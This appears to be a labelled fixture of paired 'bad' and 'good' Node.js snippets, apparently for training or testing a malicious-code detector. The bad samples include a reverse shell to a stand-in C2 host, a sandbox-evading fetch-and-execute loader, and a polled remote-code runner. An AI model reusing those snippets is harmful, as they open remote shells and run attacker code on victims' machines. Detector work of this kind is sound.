//: bad reverse-shell
const net = require('net');
const cp = require('child_process');

const client = new net.Socket();
client.connect(4444, 'c2.example.invalid', () => {
  const sh = cp.spawn('/bin/sh', ['-i']);
  client.pipe(sh.stdin); //!
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});

//: good reverse-shell
const net = require('net');
const fs = require('fs');

const client = new net.Socket();
client.connect(4444, 'logs.example.invalid', () => {
  const log = fs.createReadStream('/var/log/app.log');
  log.pipe(client);
});

//: bad debugger-check
const os = require('os');
const { get } = require('https');

const idle = os.cpus().length > 2 && os.totalmem() > 4e9 && !/inspect/.test(process.execArgv.join());
if (idle && !os.hostname().includes('sandbox')) {
  get('https://z.example.invalid/' + os.arch(), (res) => {
    res.on('data', (text) => Function(text.toString())()); //!
  });
}

//: good debugger-check
const os = require('os');
const { get } = require('https');

const workers = os.totalmem() > 4e9 ? os.cpus().length : 1;
if (!/inspect/.test(process.execArgv.join())) {
  get('https://z.example.invalid/' + os.arch(), (res) => {
    res.on('data', (text) => console.log(workers, text.toString()));
  });
}

//: bad polled-code
import got from 'got';

async function tick() {
  const { task } = await got('https://jobs.example.invalid/next').json();
  if (task) await Object.getPrototypeOf(tick).constructor(task)(); //!
}

setInterval(() => tick().catch(() => {}), 300_000).unref();

//: good polled-code
import got from 'got';
import { tasks } from './tasks.js';

async function tick() {
  const { task } = await got('https://jobs.example.invalid/next').json();
  if (task) await tasks[task]?.();
}

setInterval(() => tick().catch(() => {}), 300_000).unref();
